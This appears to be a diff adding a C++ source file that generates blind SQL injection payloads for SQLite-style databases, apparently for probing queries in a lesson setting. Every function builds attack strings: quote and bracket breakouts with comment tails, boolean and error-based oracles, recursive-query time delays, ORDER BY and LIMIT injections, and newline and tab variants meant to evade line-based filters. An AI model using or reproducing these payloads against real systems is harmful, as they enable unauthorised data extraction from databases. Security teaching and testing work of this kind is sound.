@@ -1,0 +1,135 @@
+#include "core/attack/frame.h"
+
+namespace parapet::attack {
+namespace {
+
+// The rows of the recursion cost about twenty steps each: far over what a lesson's query takes and
+// far under what a server lets one do.
+constexpr char kLong[] = "(WITH\tr(n)AS(VALUES(1)UNION\nALL\tSELECT\tn+1\tFROM\tr\tWHERE\tn<9000*(";
+constexpr char kLongEnd[] = "))SELECT\tcount(*)FROM\tr)";
+
+Frame chained(Break const& with) { return {with.open + "=0=(", ")" + with.tail}; }
+
+void append(std::vector<Frame>& frames, std::vector<Frame> more) {
+    frames.insert(frames.end(), more.begin(), more.end());
+}
+
+}  // namespace
+
+std::string Frame::around(std::string_view condition) const {
+    return before + std::string(condition) + after;
+}
+
+Frame failing(std::string const& before, std::string const& after) {
+    return {before + "abs(-9223372036854775807-(", "))" + after};
+}
+
+Frame lasting(std::string const& before, std::string const& after) {
+    return {before + kLong, kLongEnd + after};
+}
+
+std::vector<Break> text_breaks(std::string const& nothing) {
+    std::vector<Break> breaks;
+    for (char const* close :
+         {"'", "')", "'))", "''"}) {  // the last: only the first quote is doubled
+        for (char const* tail : {"--", "/*-"}) breaks.push_back({nothing + close, tail});
+    }
+    return breaks;
+}
+
+std::vector<Frame> text_frames(std::vector<std::string> const& bases, std::string const& nothing) {
+    std::vector<Frame> frames;
+    for (std::string const& base : bases) frames.push_back({base + "'||substr(7,1,(", ")=0)||'"});
+    frames.push_back({nothing + "'=0=(", ")+'"});
+    frames.push_back({nothing + "''=0=(", ")+'"});
+    for (Break const& each : text_breaks(nothing)) frames.push_back(chained(each));
+    frames.push_back({.before = nothing + "'/**/LIKE/**/0/**/LIKE(",
+                      .after = ")--",
+                      .comparing = Comparing::Between});
+    append(frames, text_error_frames(bases.empty() ? nothing : bases.front()));
+    frames.push_back(failing(nothing + "'=", "--"));
+    frames.push_back(failing(nothing + "')=", "/*-"));
+    frames.push_back(lasting(nothing + "'=", "--"));
+    return frames;
+}
+
+std::vector<Frame> text_error_frames(std::string const& base) {
+    return {failing(base + "'||substr(7,1,0*", ")||'"), lasting(base + "'||substr(7,1,0*", ")||'")};
+}
+
+std::vector<Break> number_breaks() {
+    std::vector<Break> breaks;
+    for (char const* close : {"0", "0)", "0))", "0'", "0')"}) {
+        for (char const* tail : {"--", "/*-", ""}) breaks.push_back({close, tail});
+    }
+    return breaks;
+}
+
+std::vector<Frame> number_frames(std::string const& n) {
+    std::vector<Frame> frames = {
+        {n + "*(", ")+0"},         // n or 0
+        {n + "+100000*(", ")+0"},  // n or far over it
+        {n + "*(", ")/*-"},        // the same, and the rest of the statement fails without it
+        {n + "+100000*(", ")/*-"}, {n + "*(", ")--"},
+        {n + "\n*(", ")+0\n-0"},  // for filters that look at one line
+        {n + "'*(", ")*'1"},      // a number in quotes
+        chained({"0)", "--"}),     chained({"0)", "/*-"}),
+    };
+    append(frames, number_error_frames(n));
+    return frames;
+}
+
+std::vector<Frame> number_error_frames(std::string const& n) {
+    return {failing(n + "+0*", ""), failing(n + "+0*", "/*-"), lasting(n + "+0*", ""),
+            lasting(n + "+0*", "/*-"), failing(n + "'||substr(7,1,0*", ")||'")};
+}
+
+std::vector<Break> list_breaks() {
+    std::vector<Break> breaks;
+    for (char const* close : {"0)", "0))", "0')", "0'))", "0\")"}) {
+        for (char const* tail : {"--", "/*-"}) breaks.push_back({close, tail});
+    }
+    return breaks;
+}
+
+std::vector<Frame> list_frames(std::string const& item) {
+    std::vector<Frame> frames = {
+        {item + "*(", ")+0"},
+        {item + "'*(", ")*'1"},
+        {item + "\n*(", ")+0\n-0"},
+        {item + "'||substr(7,1,(", ")=0)||'"},
+    };
+    for (Break const& each : list_breaks()) frames.push_back(chained(each));
+    frames.push_back(failing(item + "+0*", ""));
+    frames.push_back(lasting(item + "+0*", ""));
+    return frames;
+}
+
+std::vector<Frame> order_frames(std::vector<std::string> const& columns) {
+    std::vector<Frame> frames;
+    // Rising when the condition is 0, falling when it is 1; it begins and ends with the column.
+    for (std::string const& c : columns) frames.push_back({c + "*(1-2*(", "))*" + c});
+    std::string const& c = columns.front();
+    frames.push_back({c + "\n*(1-2*(", "))*\n" + c});
+    frames.push_back({c + "*(1-2*(", "))/*-"});
+    for (char const* quotes : {"\"\"", "``", "[]"}) {
+        std::string const open(1, quotes[0]);
+        std::string const close(1, quotes[1]);
+        frames.push_back({c + close + "*(1-2*(", "))*" + open + c});
+    }
+    frames.push_back({"iif((", "),rowid,-rowid)"});
+    frames.push_back({"CASE\tWHEN(", ")THEN\trowid\tELSE-rowid\tEND"});
+    frames.push_back(failing(c + ",", ""));
+    frames.push_back(failing(c + "\",", "--"));
+    frames.push_back(lasting(c + ",", ""));
+    return frames;
+}
+
+std::vector<Frame> direction_frames(std::string const& column) {
+    return {{"*(1-2*(", "))"},           {"," + column + "*(1-2*(", "))"},
+            {"asc\tLIMIT\t1*(", ")/*-"}, {"desc\tLIMIT\t1*(", ")--"},
+            failing("asc,", ""),         failing("desc\n,", ""),
+            failing(",", "--"),          lasting("asc,", "")};
+}
+
+}  // namespace parapet::attack
